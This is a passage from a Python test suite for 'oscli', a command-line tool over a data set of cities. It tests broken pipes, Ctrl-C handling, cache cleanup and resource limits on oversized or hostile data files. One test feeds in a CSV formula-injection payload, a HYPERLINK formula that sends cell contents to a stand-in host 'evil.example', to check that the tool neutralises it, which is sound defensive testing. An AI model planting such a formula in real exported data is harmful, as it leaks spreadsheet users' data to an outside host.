    for verb in ("list", "show")
    for fmt in ("table", "plain", "json", "ndjson", "csv", "yaml")
]
PIPED_COMMANDS += [
    ["search", "suzhou", "--format", "table"],
    ["search", "suzhou"],
    ["check"],
    ["check", "--format", "table"],
    ["check", "--rules", "--format", "table"],
    ["cite", "--all"],
    ["--help"],
    ["cities", "list", "--help"],
    ["--version"],
]


def _into_a_closed_pipe(args: list[str], cwd: Path) -> subprocess.CompletedProcess:
    """Run with stdout a pipe whose reader is already gone: the first write fails with EPIPE."""
    reader, writer = os.pipe()
    os.close(reader)
    try:
        return _oscli(*args, cwd=cwd, stdout=writer, stderr=subprocess.PIPE, env=_env(COLUMNS="120"))
    finally:
        os.close(writer)


def test_every_command_into_a_closed_pipe_ends_quietly(tmp_path):
    with ThreadPoolExecutor(max_workers=4) as pool:
        results = list(pool.map(lambda args: (args, _into_a_closed_pipe(args, tmp_path)), PIPED_COMMANDS))
    failed = [
        (" ".join(args), done.returncode, done.stderr)
        for args, done in results
        if (done.returncode, done.stderr) != (0, "")
    ]
    assert failed == []


@pytest.mark.parametrize(
    "pipeline, first_line",
    [
        ("oscli cities list --format table | true", None),
        ("oscli --help | head -1", "Usage: oscli [OPTIONS] COMMAND [ARGS]..."),
        ("oscli cities list | head -1", "ID\tName\tChinese\tProvince\tPrimary"),
    ],
)
def test_a_reader_that_stops_early_ends_oscli_quietly(tmp_path, pipeline, first_line):
    script = pipeline.replace("oscli", shlex.quote(oscli_executable()), 1).replace(" |", ' 2>"$ERR" |', 1)
    done = subprocess.run(
        ["bash", "-c", script + '; echo "status ${PIPESTATUS[0]}"'],
        capture_output=True,
        text=True,
        cwd=tmp_path,
        env=_env(ERR=str(tmp_path / "err"), COLUMNS="120"),
        timeout=60,
    )
    lines = done.stdout.splitlines()
    assert lines[-1] == "status 0"
    assert (tmp_path / "err").read_text() == ""
    if first_line is not None:
        assert lines[0].strip().startswith(first_line)


def _median_seconds(argv: list[str], runs: int = 5) -> float:
    times = []
    for _ in range(runs):
        started = time.perf_counter()
        subprocess.run(argv, capture_output=True, env=_env(), timeout=60)
        times.append(time.perf_counter() - started)
    return statistics.median(times)


def _cli_extension() -> str | None:
    """The file of `_opcode`: an extension module that the console script's preamble does not
    load and that the first import after entry.main installs its SIGINT handler does (cli imports
    inspect, which imports dis). None where it is built in."""
    import _opcode

    return getattr(_opcode, "__file__", None)


def _wait_until_mapped(pid: int, path: str, timeout: float = 30) -> bool:
    """Until process ``pid`` has mapped ``path``; False if that cannot be seen or does not happen."""
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        try:
            with open(f"/proc/{pid}/maps", encoding="utf-8", errors="replace") as maps:
                if path in maps.read():
                    return True
        except OSError:
            return False
        time.sleep(0.0002)
    return False


def test_ctrl_c_during_start_up_exits_130_without_a_traceback(tmp_path):
    """SIGINT at several moments of start-up. The script pip writes imports `re` before any of
    oscli's code runs: a signal there is the interpreter's own traceback, which no code of oscli
    can catch. So each signal is sent some milliseconds after oscli's code has begun, seen as the
    process mapping `_opcode` (steady however loaded the machine is); where that cannot be seen,
    after twice the time of that preamble (`python -c "import re, sys"`, measured first)."""
    python = Path(oscli_executable()).parent / "python"
    preamble = _median_seconds([str(python) if python.exists() else sys.executable, "-c", "import re, sys"])
    marker = _cli_extension()
    listing = _oscli("cities", "list", cwd=tmp_path).stdout
    outcomes = []
    for delay_ms in (0, 2, 5, 10, 15, 20, 30, 45):
        proc = subprocess.Popen(
            [oscli_executable(), "cities", "list"],
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            text=True,
            cwd=tmp_path,
            env=_env(),
        )
        if not (marker and _wait_until_mapped(proc.pid, marker)):
            time.sleep(2 * preamble)
        time.sleep(delay_ms / 1000)
        proc.send_signal(signal.SIGINT)
        out, err = proc.communicate(timeout=60)
        assert "Traceback" not in err and "KeyboardInterrupt" not in err, (delay_ms, err)
        if proc.returncode == 130:
            assert err == ""
        else:  # the signal came after the work was done
            assert proc.returncode in (0, -signal.SIGINT) and out == listing, (delay_ms, proc.returncode, err)
        outcomes.append(proc.returncode)
    assert outcomes[0] == 130 and outcomes.count(130) >= 4, outcomes


def test_a_temporary_file_left_by_a_killed_cache_write_is_removed_by_a_later_run(tmp_path, data_copy):
    folder = tmp_path / "cache"
    folder.mkdir(mode=0o700)
    left = folder / ".tmp-oscli-1f2e-3d4c5b6a7f80"  # half an entry, 20 minutes old
    left.write_bytes(b'{"format":2,"base":{"city":[{"id":"xian","name":"Xi')
    twenty_minutes_ago = time.time() - 20 * 60
    os.utime(left, (twenty_minutes_ago, twenty_minutes_ago))
    writing = folder / ".tmp-oscli-2a3b-0a1b2c3d4e5f"  # another run's, being written now
    writing.write_bytes(b'{"format":2')
    assert _xian(tmp_path, data_copy, _env(OSCLI_CACHE_DIR=str(folder)))[1] == XIAN
    assert not left.exists() and writing.exists()
    assert len([p for p in folder.iterdir() if cache.ENTRY.fullmatch(p.name)]) == 1


# -- 11. CSV cells a spreadsheet would run as formulas ----------------------------------------------


@pytest.mark.parametrize(
    "name", ['=HYPERLINK("https://evil.example/?q="&A1,"Xi\'an")', "+1+1", "-2+3", "@SUM(A1:A2)", "\tXi'an"]
)
def test_a_csv_cell_that_would_be_a_formula_is_neutralised(tmp_path, data_copy, name):
    _set_xian_name(data_copy, json.dumps(name))  # a JSON string is a YAML double-quoted scalar
    assert _oscli("--data-dir", str(data_copy), "check", cwd=tmp_path).returncode == 0  # valid data
    done = _oscli("--data-dir", str(data_copy), "cities", "list", "--format", "csv", cwd=tmp_path)
    assert done.returncode == 0
    rows = list(csv.DictReader(io.StringIO(done.stdout.lstrip("\ufeff"), newline="")))
    (xian,) = [r for r in rows if r["id"] == "xian"]
    assert xian["name"] == "'" + name
    assert (
        json.loads(_oscli("--data-dir", str(data_copy), "cities", "show", "xian", "--json", cwd=tmp_path).stdout)[
            "name"
        ]
        == name
    )  # the data formats keep it exact


# -- 12. a relative XDG_CACHE_HOME -----------------------------------------------------------------


def test_a_relative_xdg_cache_home_is_ignored(tmp_path):
    work, home = tmp_path / "work", tmp_path / "home"
    work.mkdir()
    home.mkdir()
    env = _env(remove=("OSCLI_CACHE_DIR",), XDG_CACHE_HOME="relative-cache", HOME=str(home))
    done = _oscli("cities", "show", "xian", "--json", cwd=work, env=env)
    assert done.returncode == 0 and json.loads(done.stdout)["name"] == XIAN
    assert list(work.iterdir()) == []
    assert len(list((home / ".cache" / "oscli").glob("*" + cache.SUFFIX))) == 1  # the default instead


# -- 13. the cost of a large query ------------------------------------------------------------------


@pytest.mark.parametrize("length", [MAX_QUERY + 1, 108 * 1024])
def test_a_query_over_the_limit_is_a_usage_error(tmp_path, length):
    query = ("outsourcingg " * (length // 13 + 1))[:length]
    done = _oscli("search", query, cwd=tmp_path, timeout=20)
    assert done.returncode == 2
    assert f"the text is {length:,} characters; search takes at most {MAX_QUERY}" in flat(done.stderr)


def test_a_query_of_the_limit_is_searched(tmp_path):
    query = ("suzhou " * (MAX_QUERY // 7)).ljust(MAX_QUERY)
    done = _oscli("search", query, "--json", cwd=tmp_path, timeout=20)
    assert done.returncode == 0, done.stderr
    assert json.loads(done.stdout)[0]["id"] == "suzhou"


# -- 13 (continued). the cost of a large or hostile data file ----------------------------------------


def _generate(times: int, target: Path) -> None:
    import importlib.util

    spec = importlib.util.spec_from_file_location(
        "generate", Path(__file__).resolve().parent.parent / "bench" / "generate.py"
    )
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    module.generate(times, target)


def test_many_unknown_references_are_checked_in_bounded_time(tmp_path):
    """Each did-you-mean compares a name with every id of its kind; for every unknown reference
    that was quadratic: the 100x base with its sources renamed took 37 s. Now suggestions stop
    once rules.COMPARED ids have been compared, and every unknown reference is still reported."""
    from outsourcing_cli.domain import rules
    from outsourcing_cli.domain.kinds import citations
    from outsourcing_cli.store.load import load

    data = tmp_path / "data"
    _generate(100, data)
    base = load(data).base
    cited = sum(1 for record in base.records() for _ in citations(record))  # every one will be unknown
    sources = data / "sources.yaml"
    sources.write_text(re.sub(r"(?m)^- id: ", "- id: renamed-", sources.read_text(encoding="utf-8")), encoding="utf-8")
    done = _measured("--data-dir", str(data), "check", cwd=tmp_path)
    assert done["returncode"] == 1
    unknown = [line for line in done["stdout"].splitlines() if " error OSC204 " in line]
    assert len(unknown) == cited > 60_000
    suggested = sum("; did you mean 'renamed-" in line for line in unknown)
    assert suggested == rules.COMPARED // len(base.of("source"))


def test_a_file_of_many_bad_lines_stops_after_the_first_thousand_findings(tmp_path, data_copy):
    from outsourcing_cli.domain.findings import MAX_PER_FILE

    (data_copy / "cities.yaml").write_text("cities:\n" + "  - a\n" * 300_000, encoding="utf-8")
    done = _measured("--data-dir", str(data_copy), "check", cwd=tmp_path)
    assert done["returncode"] == 1
    found = [line for line in done["stdout"].splitlines() if line.startswith("data/cities.yaml:")]
    assert len(found) == MAX_PER_FILE + 1
    assert found[0] == "data/cities.yaml:2:5: error OSC103 a city record must be a mapping, not text"
    assert found[-1] == (
        f"data/cities.yaml:{MAX_PER_FILE + 2}:5: error OSC007 more than {MAX_PER_FILE:,} "
        "problems in this file; the rest is not checked (fix these first)"
    )
    assert done["peak_kib"] < 300 * 1024


def test_a_file_of_too_many_nodes_is_refused_where_the_limit_is_reached(tmp_path, data_copy):
    from outsourcing_cli.store.yamltree import MAX_EVENTS

    (data_copy / "cities.yaml").write_text("cities: [" + "1," * MAX_EVENTS + "1]\n", encoding="utf-8")
    done = _measured("--data-dir", str(data_copy), "check", cwd=tmp_path)
    assert done["returncode"] == 1
    # at the node one beyond the limit: the first item is the sixth event (after the stream, the
    # document, the mapping, its key and the list) at column 10, and each item takes two columns
    assert (
        f"data/cities.yaml:1:{10 + 2 * (MAX_EVENTS + 1 - 6)}: error OSC007 more than {MAX_EVENTS:,} YAML nodes"
        in done["stdout"].splitlines()
    )
    assert done["peak_kib"] < 400 * 1024
